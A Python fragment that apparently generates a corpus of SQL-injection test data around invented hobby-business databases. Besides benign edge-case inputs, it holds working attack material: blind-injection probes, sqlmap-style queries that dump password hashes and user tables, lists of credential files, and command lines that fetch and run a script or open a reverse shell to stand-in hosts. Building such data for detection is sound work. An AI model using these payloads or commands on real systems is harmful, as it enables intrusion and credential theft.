 ("t14_laravel_dogs", "select \"hunting_dogs\".*, (select count(*) from \"truffle_finds\" where \"truffle_finds\".\"dog_id\" = \"hunting_dogs\".\"id\" and \"weight_g\" >= {a}) as \"finds_count\" from \"hunting_dogs\" where \"kennel\" = $1 and \"retired\" = false",
  {"a": ("n", ["20", "55"])}),
 ("t14_laravel_grading", "update \"truffle_lots\" set \"grade\" = '{a}', \"updated_at\" = $1 where \"lot_code\" = '{b}'",
  {"a": ("q", ["extra", "first choice"]), "b": ("q", ["TL-0932", "Perigord-18"])}),
 ("t14_laravel_prices", "select \"market\", \"sold_on\", avg(\"price_per_kg\") over (partition by \"market\" order by \"sold_on\" rows between {a} preceding and current row) as \"smoothed\" from \"truffle_market_prices\" where \"species\" = $1 and \"market\" = '{b}'",
  {"a": ("n", ["6", "2"]), "b": ("q", ["Richerenches", "Alba"])}),
 # truffle hunting -- Deno postgres queryObject() with an interpolated string
 ("t14_deno_dog_notes", "SELECT n.dog_id, ts_rank(n.note_tsv, q) AS rank FROM hunting_dog_notes n, phraseto_tsquery('simple', '{a}') AS q WHERE n.note_tsv @@ q ORDER BY rank DESC LIMIT {b}",
  {"a": ("q", ["indicated under oak", "false point"], "typed:tsq"), "b": ("n", ["20", "5"])}),
 ("t14_deno_grading_path", "SELECT lot_id, jsonb_path_query(grading, '$.{a}') AS val FROM truffle_lot_gradings WHERE lot_id = {b}",
  {"a": ("q", ["aroma", "firmness"], "typed:jpkey"), "b": ("n", ["3307", "41"])}),
 # yurt campsite -- WordPress $wpdb->query() / get_var() without prepare()
 ("t14_wpdb_bookings", "SELECT booking_id, yurt_id, stay FROM wp_yurt_bookings WHERE stay && daterange('{a}', '{b}') AND yurt_id = {c}",
  {"a": ("q", ["2025-07-18", "2024-08-01"], "typed:date"), "b": ("q", ["2025-07-21", "2024-08-08"], "typed:date"), "c": ("n", ["4", "11"])}),
 ("t14_wpdb_options", "SELECT option_value FROM wp_yurt_options WHERE option_name = '{a}' LIMIT 1",
  {"a": ("q", ["yurt_checkin_time", "woodburner_policy"])}),
 ("t14_wpdb_postmeta", "SELECT post_id, meta_value FROM wp_yurt_postmeta WHERE meta_key = '{a}' AND meta_value LIKE '%{b}%' ORDER BY post_id DESC LIMIT {c}",
  {"a": ("q", ["_yurt_size", "_pitch_no"]), "b": ("q", ["lake view", "6m"]), "c": ("n", ["20", "200"])}),
 ("t14_wpdb_stoves", "UPDATE wp_yurt_stoves SET last_swept = '{a}', swept_by = '{b}' WHERE stove_id = {c}",
  {"a": ("q", ["2025-04-30", "2024-10-12"], "typed:date"), "b": ("q", ["Emrys", "Gwen the sweep"]), "c": ("n", ["7", "12"])}),
 # harpsichord workshop -- Haskell postgresql-simple, Query built with fromString
 ("t14_pgsimple_soundboards", "SELECT board_id, wood, thickness_mm FROM soundboard_blanks WHERE wood = 'spruce' AND thickness_mm BETWEEN {a} AND {b} ORDER BY thickness_mm",
  {"a": ("n", ["2.8", "3"]), "b": ("n", ["3.4", "3.2"])}),
 ("t14_pgsimple_jacks", "SELECT jack_id, register, plectrum FROM harpsichord_jacks WHERE instrument_id = {a} AND plectrum IN ('{b}', 'delrin')",
  {"a": ("n", ["31", "7"]), "b": ("q", ["crow quill", "leather"])}),
 ("t14_pgsimple_temperament", "SELECT note, cents FROM temperament_offsets WHERE temperament = '{a}' ORDER BY note COLLATE \"C\"",
  {"a": ("q", ["Werckmeister III", "1/4-comma meantone"])}),
 ("t14_pgsimple_commission", "INSERT INTO harpsichord_commissions (client_id, model, deposit_cents) SELECT c.client_id, '{a}', {b} FROM clients c WHERE c.client_id = {c} AND NOT EXISTS (SELECT 1 FROM harpsichord_commissions h WHERE h.client_id = c.client_id AND h.status = 'open')",
  {"a": ("q", ["Flemish double", "Italian single"]), "b": ("n", ["150000", "90000"]), "c": ("n", ["402", "19"])}),
 # sheepdog trials -- Elixir Ecto fragment() with interpolation
 ("t14_ecto_runs", "SELECT t0.\"id\", t0.\"handler\", t0.\"points\" FROM \"trial_runs\" AS t0 WHERE (t0.\"trial_id\" = $1) AND (t0.\"course\" = '{a}') ORDER BY t0.\"points\" DESC",
  {"a": ("q", ["International", "nursery"])}),
 ("t14_ecto_outrun", "SELECT t0.\"dog_name\", t0.\"outrun_s\" FROM \"trial_runs\" AS t0 WHERE (t0.\"outrun_s\" <= {a}) AND (t0.\"dog_name\" ILIKE '{b}')",
  {"a": ("n", ["45", "60"]), "b": ("q", ["Glen%", "%Moss"], "typed:like")}),
 ("t14_ecto_faults", "SELECT s0.\"id\", s0.\"run_id\" FROM \"scoresheets\" AS s0 WHERE jsonb_path_exists(s0.\"faults\", '$[*] ? (@.phase == \"{a}\")')",
  {"a": ("q", ["shed", "pen"], "typed:jpstr")}),
 ("t14_ecto_trial_days", "SELECT t0.\"id\", t0.\"field\" FROM \"trials\" AS t0 WHERE (t0.\"held\" @> '{a}'::date) AND (t0.\"field\" = ANY($1))",
  {"a": ("q", ["2025-08-09", "2024-05-18"], "typed:date")}),
 # paper-marbling studio -- OpenResty pgmoon, pg:query() with concatenation
 ("t14_pgmoon_size", "SELECT bath_id, carrageenan_g_l, viscosity FROM marbling_size_baths TABLESAMPLE BERNOULLI ({a}) REPEATABLE (42) WHERE mixed_on > current_date - {b}",
  {"a": ("n", ["10", "2.5"]), "b": ("n", ["14", "3"])}),
 ("t14_pgmoon_pigments", "SELECT pigment, ox_gall_drops FROM marbling_pigments WHERE recipe ->> '{a}' = '{b}'",
  {"a": ("q", ["binder", "dispersant"]), "b": ("q", ["gum tragacanth", "ox gall"])}),
 ("t14_pgmoon_pattern_notes", "UPDATE marbling_patterns SET notes = $note${a}$note$ WHERE pattern_name = '{b}'",
  {"a": ("d", ["comb at 6mm; nonpareil", "stone pattern, lots of gall"]), "b": ("q", ["Turkish spot", "French curl"])}),
 ("t14_pgmoon_appname", "SET application_name = '{a}'",
  {"a": ("q", ["marbling-web", "pgmoon/worker-2"], "typed:setting")}),
 ("t14_pgmoon_table", "TABLE marbling_batches_{a}",
  {"a": ("ident", ["2024", "spring"])}),
]
TAG = "$note$"
CLOSER = closers(TAG)
segments, edit = corpus_kit.slot_editing(CLOSER)     # the kit's slot editing, with this corpus's closing quotes

# values every slot of a type accepts besides the template's own: the
# skeletons of these benign fills are the template's reference skeletons
CANON = {"q": ["w", "", "Ó Murchú", "three word value", "2031-05-06", "50%", "shouldn't"], "e": ["w", "", "doesn't", "C:\\sugar\\shack", "tab\there", "one\ntwo"],
         "d": ["w", "", "they're", "\"dq\""], "qi": ["w", "Odd \"Name\"", "name with space"], "n": ["4", "0", "-12", "3.25", "2500000", "0.125"],
         "list": ["6", "6, 7", "10,11,12", "31, 32, 33, 34"], "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))
CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "FETCH", "SET", "VALUES", "RETURNING", "TO", "INTO", "ON",
           "TABLESAMPLE", "TABLE", "OVER", "ROWS", "RANGE", "GROUPS")
COND_CLAUSES = ("WHERE", "HAVING", "ON")


@by_template
def slot_info(tpl, slot):
    """What a breakout into this slot has to know (corpus_kit.slot_facts),
    and besides: whether it sits in a VALUES list, whether a condition can
    be appended there, whether the statement is a query."""
    info = corpus_kit.slot_facts(tpl, slot, CLOSER, CLAUSES, limit_clauses=("LIMIT", "OFFSET", "FETCH", "TABLESAMPLE"))
    lead, clause, words = info["lead"], info["clause"], info["words"]
    info.update({"in_values": "VALUES" in info["ctx"] or clause == "VALUES",
                 "cond_ok": clause in COND_CLAUSES or (lead == "UPDATE" and clause == "SET" and not info["closers"]),
                 "select": lead in ("SELECT", "WITH") or (lead == "PREPARE" and "SELECT" in words) or (lead == "CREATE" and "SELECT" in words),
                 "bare_select": lead == "SELECT" and "FROM" not in [v for k, v in lex(tpl[1]) if k == "W"]})
    return info


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Aoibheann Ní Fhaoláin", "O'Callaghan's sugarbush", "Côte-d'Ivoire reeds", "D'Arcy & Daughters", "Ka'ena Point yurts",
   "Mu'tasim Al-Hariri", "the ropemaker's apprentice", "Villeneuve-d'Ascq", "Dafydd ap Siôn's saddle", "N'Golo Diarra", "Te Rangi'ita",
   "Grand'Anse", "L'Isle-sur-la-Sorgue", "Cat's-paw knot", "Boyd's Harpsichords", "Sha'Carri Ewing", "Martha's Vineyard", "Shepherd's crook",
   "Ó Súilleabháin", "Lu'au supplies", "Gerry O'Neill-Byrne", "Ba'albek stamps", "Rock 'n' roll rolls", "Sant'Ambrogio", "the band major's mace"],
 "input_plain": ["sap bucket", "drill spout", "sugar sand", "hydrometer cup", "laid rope", "hawser", "serving mallet", "roman candle", "mortar rack",
   "girth point", "cantle", "panel flocking", "long straw", "ridge roll", "liggers", "penny black", "hinge remainder", "first day cover",
   "eyed ova", "parr stage", "redd survey", "calf earmark", "lasso", "spring migration", "gallopers", "rounding boards", "band organ",
   "chanter reed", "drone bag", "strathspey", "perigord black", "forest plot", "trained lagotto", "woodburner", "lattice wall", "crown ring",
   "jackrail", "quill plectrum", "outrun", "lift and fetch", "shedding ring", "gum tragacanth", "ox gall", "nonpareil comb"],
 "input_numeric_string": ["0007", "12.50", "2e2", "-0", "1999", "+15", "0.05", "00", "7,5", "2_500", "99999999999999999999", "4.", ".5", "0b101", "09"],
 "input_formatted": ["2025-03-14T06:45:00-04:00", "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "FR7630006000011234567890189", "+33 4 90 12 34 56", "LOT#2025/117-B",
   "06:45", "EH1 1YZ", "v2.14.0-beta.1", "CHF 1'250.00", "4012 8888 8888 1881", "2028-02-29", "198.51.100.23", "SG-1840-1d", "979-10-90636-07-1",
   "1.234.567,89", "#c8a165", "/wp-json/yurts/v1/bookings?from=2025-07-18", "47°25'N 6°09'E", "Q3/2025", "PT1H30M", "0800", "2025-10-26 02:30:00+02",
   "18/07/2025", "Brix 66.9", "12 mm 3-strand", "Grade A Golden", "UN0335", "1.3G", "BERNOULLI 10", "ISO 8601", "MMSI 235009876", "No. 7 sheet", "45 s outrun"],
 "input_unicode": ["Erablière Saint-Côme", "ᚱᚢᚾᚨ", "Sámi siida", "Гжель", "🎆 finale", "حرير", "Smørrebrød", "Ğ mark", "ＢＥＲＮＯＵＬＬＩ", "naïve\u200bspace",
   "≥ 66.9 °Bx", "ﬂock", "Straße", "a\u0308", "ひらがな", "ᐃᓄᒃᑎᑐᑦ", "Ðakovo", "Kōbe", "ትግርኛ", "🐑 outrun", "Łódź", "Huế", "Ñuñoa", "Ärger",
   "𝔪𝔞𝔯𝔟𝔩𝔢", "Ψάλτης"],
 "input_json_text": ['{"pan": 2, "brix": 66.9}', '[{"tune": "it\'s a long way"}]', '{"where": "1=1"}', 'null', '{"sql": "SELECT * FROM pg_user"}',
   '{"path": "C:\\\\yurts\\\\bookings.csv"}', '{"g": 2.5e-2, "h": []}', '["\'", "--", ";", "/*"]', '{"q": "\'; DROP TABLE reindeer; --"}', '{}',
   '{"cues": [[1, "peony"], [2, {"dud": true}]]}', '{"order": "desc", "limit": 20}', '{"sleep": "pg_sleep(5)"}', '"a string"', '[1, 2, 3]'],
 "input_url_email": ["https://yurts.example.org/book?yurt=4&nights=3", "mailto:reeds+orders@example.co.uk", "ftp://archive.example.net/rolls/blaze-away.mid",
   "o'leary.piper@example.ie", "https://example.com/search?q=union+select", "http://[2001:db8::1e]:8443/hatchery", "tel:+47-78-48-00-00",
   "https://example.org/lots#sg-1", "x@y.no", "https://example.net/a%20b?c=%27d%27&e=--", "geo:69.65,18.96", "urn:isbn:9780140449136",
   "ssh://git@example.org:2222/marbling.git"],
 "input_sql_words": ["Union Pacific Rope", "Select Stamps Ltd", "Drop Spindle Saddlery", "Join the Band", "Table Rock Maple", "Insert Here Fireworks",
   "Sleep Tight Yurts", "Where Eagles Dare", "Order of the Thistle", "Grant Park Pipers", "Execute Display 4", "Null Point", "Like Clockwork",
   "From Here to Eternity", "Case Harpsichords", "Having Fun Fairground", "Truncated Cone Shell", "Update the Herd", "Delete Me Not", "Or Akiva",
   "And So To Bed", "Create a Yurt", "Alter Ego Reeds", "Declare Independence", "Cast Away Ropes", "Begin Again", "Commit Pipes", "Rollback Ridge",
   "Values Matter", "Limit Switch", "Offset Press", "Fetch the Sheep", "Copy Shop", "Vacuum Pan Syrup", "Analyze This"],
 "input_punctuation": ["!!", ";", "***", "\\\\", "#7", "50%", "(tbd)", "[wip]", "{y}", "<br>", "x;y", "---", "/* */", "||", "¿?", "…",
   "@herd", "£3", "a=b", "'single'", "\"double\"", "&&", ":::", "$1", "_%", "3/4", "~", "^_^", "`", "''", "+-+", "#!", "?"],
 "input_whitespace": ["  two leading", "two trailing  ", "tab\tinside", "line a\nline b", "\r\n", "lots      of gaps", "    ", "\t\t", "end\n", "x\ry", "\u00a0nbsp", "\u2009thin"],
}
SENTS = ["Sap ran well until noon; the east line froze again after three.", "Rope 4471 failed the proof test at 38 kN -- re-lay the strands.",
 "Select the 75 mm shells for the finale, not the 100s.", "Union rules say the thatchers stop at dusk.", "She wrote: \"don't feed the parr after six\".",
 "Is 12 > 9? Only on the new scale, please re-check.", "Drop the reeds at the band hall; the side door sticks.", "Order #2207 came back with a loose cantle (fixed).",
 "Delete the duplicate lot once the auctioneer signs.", "We'll fire at nine, or hold if the wind passes 35 km/h.",
 "The herd crossed the river at Gáregasnjárga; two calves unmarked.", "Note: /* legacy */ codes stay in the 1971 catalogue.",
 "Boil to 66.9 Brix and filter hot; the sugar sand clogs the press.", "Dissolved oxygen dipped to 7.1 mg/l overnight -- check the blower.",
 "Stove 7 not swept since April; no fires until it is signed off.", "Quills recut on the upper 8' register; voicing still uneven."]


def typed_value(r, knd):
    """(value, family) for a slot read as a value of kind knd."""
    if knd == "date":
        return rdate(r, 2016, 2029), "input_formatted"
    if knd == "ts":
        return "%s %02d:%02d%s" % (rdate(r, 2018, 2028), r.randint(0, 23), r.choice([0, 10, 20, 30, 40, 50]), r.choice(["", ":00", "+02", "-05", ":15.25", "Z"])), "input_formatted"
    if knd == "interval":
        if r.random() < 0.25:
            return r.choice(["PT2H", "P3D", "2 days 4 hours", "01:30:00", "2 weeks", "1 mon 2 days", "@ 90 minutes", "45 seconds", "1 year"]), "input_formatted"
        return "%d %s" % (r.randint(1, 96), r.choice(["minutes", "hours", "days", "weeks", "months", "mins", "hrs", "secs"])), "input_formatted"
    if knd == "json":
        k = r.choice(["stage", "pellet", "tank", "meals", "fry", "strain", "night", "ration"])
        return r.choice(['{"%s": "%s"}' % (k, rword(r, 5)), '{"%s": %d}' % (k, r.randint(0, 60)), '{"%s": %s}' % (k, r.choice(["true", "false", "null"])),
                         '{"%s": [%d]}' % (k, r.randint(0, 9)), '{"%s": {"grams": %d}}' % (k, r.randint(1, 90)), '{}']), "input_json_text"
    if knd == "regex":
        w = rword(r, r.randint(2, 5))
        return r.choice(["^%s" % w, "%s$" % w, "(%s|%s)" % (w, rword(r, 4)), "^[a-m]%s" % w[1:], "\\y%s\\y" % w, "%s[0-9]{2}" % w, "^.{%d}$" % r.randint(3, 12),
                         "[[:upper:]]%s" % w]), "input_formatted"
    if knd == "like":
        w = rword(r, r.randint(2, 5), upper=r.random() < 0.4)
        return r.choice(["%s%%" % w, "%%%s" % w, "%%%s%%" % w, "%s_%%" % w, "SG %d%%" % r.randint(1, 400), w]), "input_formatted"
    if knd == "arr":
        return ",".join(rword(r, r.randint(3, 7)) for _ in range(r.randint(1, 4))), "input_plain"
    if knd == "arrint":
        return ",".join(str(r.randint(1, 60)) for _ in range(r.randint(1, 5))), "input_numeric"
    if knd == "jpnum":
        return r.choice([str(r.randint(1, 120)), "%d.%d" % (r.randint(0, 90), r.randint(1, 9))]), "input_numeric"
    if knd == "jpkey":
        return r.choice(["aroma", "firmness", "peridium", "gleba", "weight_g", "grade", "origin", "size_mm"]), "input_plain"
    if knd == "jpstr":
        return r.choice(["shed", "pen", "outrun", "lift", "fetch", "drive", "single", "cross drive"]), "input_plain"
    if knd == "tsq":
        a, b = rword(r, r.randint(3, 7)), rword(r, r.randint(3, 7))
        return r.choice(["%s %s" % (a, b), "\"%s %s\"" % (a, b), "%s -%s" % (a, b), "%s or %s" % (a, b), a]), "input_plain"
    if knd == "setting":
        return r.choice(["tenant_%04d" % r.randint(0, 9999), "%s-%s-%d" % (rword(r, 4), rword(r, 3), r.randint(1, 9)), "T%06d" % r.randint(0, 999999),
                         "%s/%d.%d" % (rword(r, 5), r.randint(1, 4), r.randint(0, 20))]), "input_formatted"
    raise KeyError(knd)


# ---------------------------------------------------------------- what an attacker goes after
# (table, login column, secret column, a known login)
LOOT = [("sugarbush_accounts", "login", "pass_hash", "erabliere_admin"), ("ropewalk_users", "email", "password_bcrypt", "orders@ropewalk.example"),
        ("pyro_operators", "licence_no", "pin_hash", "BPEA-0091"), ("saddlery_staff", "username", "pw_digest", "master_saddler"),
        ("thatch_clients", "email", "portal_secret", "parish.clerk@example.org"), ("philatelic_members", "member_no", "password_hash", "PS-00017"),
        ("hatchery_keepers", "keeper_login", "totp_seed", "nightshift"), ("siida_members", "username", "auth_token", "herder01"),
        ("wp_yurt_users", "user_login", "user_pass", "admin"), ("harpsichord_clients", "email", "api_key", "ruckers@example.net"),
        ("trial_judges", "judge_code", "passwd_sha1", "JUDGE-7"), ("marbling_customers", "username", "password", "ebru_master")]
HOSTS = ["drop.example.org", "t1.oast.example", "ns.attacker-dns.example", "relay.example.io", "b64.example.net", "cb.invalid.example"]
IPS = ["192.0.2.61", "198.51.100.23", "203.0.113.88", "198.51.100.201"]
FILES = ["/etc/shadow", "/etc/hostname", "/proc/self/cmdline", "/proc/net/tcp", "/proc/self/cgroup", "/var/lib/postgresql/.bash_history",
         "pg_hba.conf", "postmaster.opts", "current_logfiles", "/etc/postgresql/15/main/pg_hba.conf", "/root/.ssh/id_rsa",
         "/var/www/html/wp-config.php", "/app/.env", "/run/secrets/db_password", "../../../../etc/passwd"]
CMDS = ["whoami", "hostname -f", "cat /etc/shadow", "ps aux", "ip addr", "curl -s http://drop.example.org/a.sh | bash", "ping -c 2 198.51.100.23",
        "dig +short txt x.t1.oast.example", "nc -e /bin/sh 203.0.113.88 4444", "busybox telnetd -p 4444 -l /bin/sh", "id > /tmp/o.txt",
        "perl -MIO::Socket -e 'IO::Socket::INET->new(\"192.0.2.61:53\")'"]


def loot(r):
    return r.choice(LOOT)


def target(r):
    """A value an attacker wants to read (a scalar expression)."""
    t, u, p, who = loot(r)
    n = r.randint(0, 9)
    return r.choice([
        "session_user", "current_role", "version()", "current_database()", "pg_current_logfile()", "inet_server_addr()::text",
        "current_setting('config_file')", "current_setting('archive_command')", "current_setting('ssl_key_file')", "current_setting('listen_addresses')",
        "(pg_control_system()).system_identifier::text", "pg_postmaster_start_time()::text",
        "(SELECT %s FROM %s WHERE %s='%s')" % (p, t, u, who), "(SELECT %s FROM %s ORDER BY 1 LIMIT 1 OFFSET %d)" % (p, t, n),
        "(SELECT string_agg(%s||'/'||%s,'|') FROM %s)" % (u, p, t), "(SELECT string_agg(rolname,',') FROM pg_roles WHERE rolcanlogin)",
        "(SELECT rolpassword FROM pg_authid WHERE rolsuper ORDER BY oid LIMIT 1)", "(SELECT umoptions::text FROM pg_user_mappings LIMIT 1)",
        "(SELECT subconninfo FROM pg_subscription LIMIT 1)", "(SELECT statement FROM pg_cursors LIMIT 1)",
        "(SELECT string_agg(extname||' '||extversion,',') FROM pg_extension)", "(SELECT datname FROM pg_database WHERE NOT datistemplate ORDER BY oid DESC LIMIT 1)",
        "(SELECT table_name FROM information_schema.tables WHERE table_schema='public' ORDER BY 1 LIMIT 1 OFFSET %d)" % n,
        "(SELECT sourcefile FROM pg_file_settings WHERE name='port' LIMIT 1)", "(SELECT spcname||':'||pg_tablespace_location(oid) FROM pg_tablespace ORDER BY oid DESC LIMIT 1)"])


def probe_named(r, e=None):
    """(name, a yes/no question about a secret), asked a different way each time."""
    e = e or target(r)
    pos = r.randint(1, 32)
    k = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 64])
    ch = chr(r.randint(97, 122))
    x = "(%s)::text" % e
    return r.choice([
        ("get_byte_convert", "get_byte(convert_to(%s,'UTF8'),%d)>%d" % (x, pos - 1, k)), ("octet_length_gt", "octet_length(%s)>%d" % (x, r.randint(4, 64))),
        ("bit_length_eq", "bit_length(%s)=%d" % (x, 8 * r.randint(4, 40))), ("starts_with_char", "starts_with(%s,'%s')" % (x, ch)),
        ("similar_alternation", "%s SIMILAR TO '(%s|%s)%%'" % (x, ch, chr(ord(ch) ^ 1))), ("regexp_count_digits", "regexp_count(%s,'[0-9]')>%d" % (x, r.randint(0, 9))),
        ("regexp_substr_at", "regexp_substr(%s,'.',%d)='%s'" % (x, pos, ch)), ("regexp_instr_at", "regexp_instr(%s,'%s')=%d" % (x, ch, pos)),
        ("regexp_like_offset", "regexp_like(%s,'^.{%d}%s')" % (x, pos - 1, ch)), ("string_to_array_null_split", "(string_to_array(%s,NULL))[%d]='%s'" % (x, pos, ch)),
        ("md5_nibble", "substr(md5(%s),%d,1)='%s'" % (x, r.randint(1, 32), r.choice("0123456789abcdef"))), ("collate_c_bisect", "%s COLLATE \"C\" >= '%s'" % (x, ch)),
        ("reverse_ascii", "ascii(reverse(%s))>%d" % (x, k)), ("strpos_chr", "strpos(%s,chr(%d))=%d" % (x, k, pos)),
        ("to_hex_get_byte", "to_hex(get_byte(convert_to(%s,'UTF8'),%d))='%02x'" % (x, pos - 1, k)),
        ("jsonpath_like_regex", "jsonb_path_exists(to_jsonb(%s),'$ ? (@ like_regex \"^%s\")')" % (x, ch)),
        ("array_position_split", "array_position(regexp_split_to_array(%s,''),'%s')=%d" % (x, ch, pos)),
        ("replace_shrinks", "length(replace(%s,'%s',''))<length(%s)" % (x, ch, x)), ("gt_collate_literal", "%s > '%s' COLLATE \"C\"" % (x, ch))])


def probe(r, e=None):
    return probe_named(r, e)[1]


# ---------------------------------------------------------------- sqlmap: PostgreSQL tests, boundaries, options and tampers
def marker(r):
    """kb.chars start/stop: q, three letters of sqlmap's low-frequency alphabet, q."""
    return "q" + "".join(r.choice("zqxjkvbp") for _ in range(3)) + "q"


DUMP_TABLES = {"sugarbush_accounts": ["login", "pass_hash", "email"], "pyro_operators": ["licence_no", "pin_hash", "phone"],
               "saddlery_staff": ["username", "pw_digest", "hourly_rate"], "philatelic_members": ["member_no", "password_hash", "iban"],
               "hatchery_keepers": ["keeper_login", "totp_seed"], "wp_yurt_users": ["user_login", "user_pass", "user_email"],
               "harpsichord_clients": ["email", "api_key", "address"], "trial_judges": ["judge_code", "passwd_sha1"]}
COMMON_TABLES = ["users", "admin", "accounts", "members", "customers", "login", "wp_users", "staff", "credentials", "passwords", "tbl_user", "sessions"]


class Opts:
    """The sqlmap switches that change how a query is spelled: --no-escape
    (quoted strings instead of CHR()), --no-cast, --hex."""

    def __init__(self, r):
        x = r.random()
        self.noesc = x < 0.12
        self.nocast = 0.12 <= x < 0.22
        self.hex = 0.22 <= x < 0.3
        self.tag = "--no-escape" if self.noesc else "--no-cast" if self.nocast else "--hex" if self.hex else ""

    def s(self, v):
        return "'%s'" % v.replace("'", "''") if self.noesc else chrs(v)

    def cast(self, col):
        if self.nocast:
            return col
        if self.hex:
            return "ENCODE(CONVERT_TO(COALESCE(CAST(%s AS VARCHAR(10000))::text,%s),%s),%s)" % (col, self.s(" "), self.s("UTF8"), self.s("HEX"))
        return "COALESCE(CAST(%s AS VARCHAR(10000))::text,%s)" % (col, "(CHR(32))" if not self.noesc else "' '")


def sqlmap_query(r, o):
    """(expression, switch): one enumeration query of sqlmap's for PostgreSQL."""
    k = r.randrange(26)
    tbl = r.choice(sorted(DUMP_TABLES))
    cols = DUMP_TABLES[tbl]
    n = r.randint(0, 19)
    who = r.choice(["postgres", "sugar_rw", "pyro_app", "wordpress", "saddlery", "hatchery_ro"])
    if k == 0:
        return o.cast("VERSION()") if o.hex else "VERSION()", "--banner"
    if k < 5:
        return SQLMAP_FINGERPRINT[k]
    if k == 5:
        f = r.choice(["sys_eval", "sys_exec", "sys_bineval"])
        return "(SELECT proname=%s FROM pg_proc WHERE proname=%s OFFSET 0 LIMIT 1)" % (o.s(f), o.s(f)), "--udf-inject (check)"
    if k == 6:
        return "(SELECT COUNT(DISTINCT(usename)) FROM pg_user)", "--users (count)"
    if k == 7:
        return "(SELECT DISTINCT(usename) FROM pg_user OFFSET %d LIMIT 1)" % (n % 7), "--users"
    if k == 8:
        return "(SELECT %s FROM pg_shadow WHERE usename=%s OFFSET %d LIMIT 1)" % (o.cast("passwd"), o.s(who), n % 2), "--passwords -U %s" % who
    if k == 9:
        return "(SELECT (CASE WHEN usesuper THEN 1 ELSE 0 END) FROM pg_user WHERE usename=%s OFFSET 0 LIMIT 1)" % o.s(who), "--privileges -U %s" % who
    if k == 10:
        return "(SELECT (CASE WHEN userepl THEN 1 ELSE 0 END) FROM pg_user WHERE usename=%s OFFSET 0 LIMIT 1)" % o.s(who), "--roles -U %s" % who
    if k == 11:
        return "(SELECT COUNT(DISTINCT(datname)) FROM pg_database)", "--dbs (count)"
    if k == 12:
        return "(SELECT DISTINCT(%s) FROM pg_database OFFSET %d LIMIT 1)" % (o.cast("datname") if not o.nocast else "datname", n % 5), "--dbs"
    if k == 13:
        sch = r.choice(["public", "wordpress", "hatchery", "auction"])
        return "(SELECT COUNT(tablename) FROM pg_tables WHERE schemaname IN (%s))" % o.s(sch), "--tables -D %s (count)" % sch
    if k == 14:
        sch = r.choice(["public", "wordpress", "hatchery"])
        return "(SELECT %s FROM pg_tables WHERE schemaname IN (%s) ORDER BY tablename OFFSET %d LIMIT 1)" % (o.cast("tablename"), o.s(sch), n), "--tables -D %s" % sch
    if k == 15:
        return ("(SELECT %s FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_type c ON c.oid=b.atttypid JOIN pg_namespace d ON a.relnamespace=d.oid "
                "WHERE b.attnum>0 AND a.relname=%s AND nspname=%s AND attname=%s OFFSET 0 LIMIT 1)" % (o.cast("typname"), o.s(tbl), o.s("public"), o.s(r.choice(cols)))), "--columns -T %s (types)" % tbl
    if k == 16:
        return ("(SELECT COUNT(*) FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_namespace d ON a.relnamespace=d.oid WHERE b.attnum>0 AND a.relname=%s AND nspname=%s)"
                % (o.s(tbl), o.s("public"))), "--columns -T %s (count)" % tbl
    if k == 17:
        return "(SELECT COUNT(*) FROM public.%s)" % tbl, "--count -T %s" % tbl
    if k in (18, 19):
        c = r.choice(cols)
        return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (o.cast(c), tbl, cols[0], n), "--dump -T %s -C %s" % (tbl, c)
    if k == 20:
        c = r.choice(cols)
        w = "%s LIKE %s" % (cols[0], o.s(r.choice(["%admin%", "a%", "%@example%", "root"])))
        return "(SELECT %s FROM public.%s WHERE %s ORDER BY %s OFFSET %d LIMIT 1)" % (o.cast(c), tbl, w, cols[0], n % 3), "--dump --where"
    if k == 21:
        pat = r.choice(["%user%", "%pass%", "%member%", "%account%"])
        return "(SELECT COUNT(DISTINCT(schemaname)) FROM pg_tables WHERE tablename LIKE %s)" % o.s(pat), "--search -T (count)"
    if k == 22:
        pat = r.choice(["%pin%", "%secret%", "%token%", "%hash%"])
        return ("(SELECT DISTINCT(table_name) FROM information_schema.columns WHERE column_name LIKE %s AND table_schema=%s OFFSET %d LIMIT 1)"
                % (o.s(pat), o.s("public"), n % 4)), "--search -C"
    if k == 23:
        return "(SELECT COUNT(DISTINCT(query)) FROM pg_stat_activity)", "--statements (count)"
    if k == 24:
        return "(SELECT %s FROM pg_stat_activity OFFSET %d LIMIT 1)" % (o.cast("query"), n % 4), "--statements"
    return "(SELECT %s)" % o.cast(r.choice(["current_setting(%s)" % o.s("is_superuser"), "inet_client_port()", "pg_backend_pid()", "current_setting(%s)" % o.s("data_directory")])), "--sql-query"


def sqlmap_inference(r, o):
    x = r.random()
    if x < 0.08:
        t = r.choice(COMMON_TABLES + sorted(DUMP_TABLES))
        return "EXISTS(SELECT %d FROM %s)" % (randnum(r), t), "--common-tables"
    if x < 0.12:
        t = r.choice(sorted(DUMP_TABLES))
        return "EXISTS(SELECT %s FROM %s)" % (r.choice(["pass", "passwd", "pwd", "secret", "token"] + DUMP_TABLES[t]), t), "--common-columns -T %s" % t
    e, sw = sqlmap_query(r, o)
    if o.tag:
        sw += " " + o.tag
    if x < 0.7:
        v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 36, 46])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 48), r.choice(bisection(v))), sw
    if x < 0.84:
        return "ASCII(SUBSTRING((LENGTH(%s))::text FROM %d FOR 1))>%d" % (e, r.randint(1, 2), r.choice(bisection(r.randint(48, 57)))), sw + " (length)"
    if x < 0.94:
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))!=%d" % (e, r.randint(1, 32), r.randint(33, 126)), sw + " (validation)"
    return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))=%d" % (e, r.randint(1, 32), r.randint(48, 122)), sw + " (predict)"


def sqlmap_tests(r, vector):
    """[(family, title, dbms, place, where, payload, comment, tag)] -- place: cond | order | repl | stack; where: 1 original, 2 negative, 3 replaced."""
    R, R1, R2 = randnum(r), randnum(r), randnum(r)
    S = rstr(r, r.choice([4, 4, 4, 5]))
    T = r.choice([5, 5, 5, 5, 5, 3, 4, 7, 10])
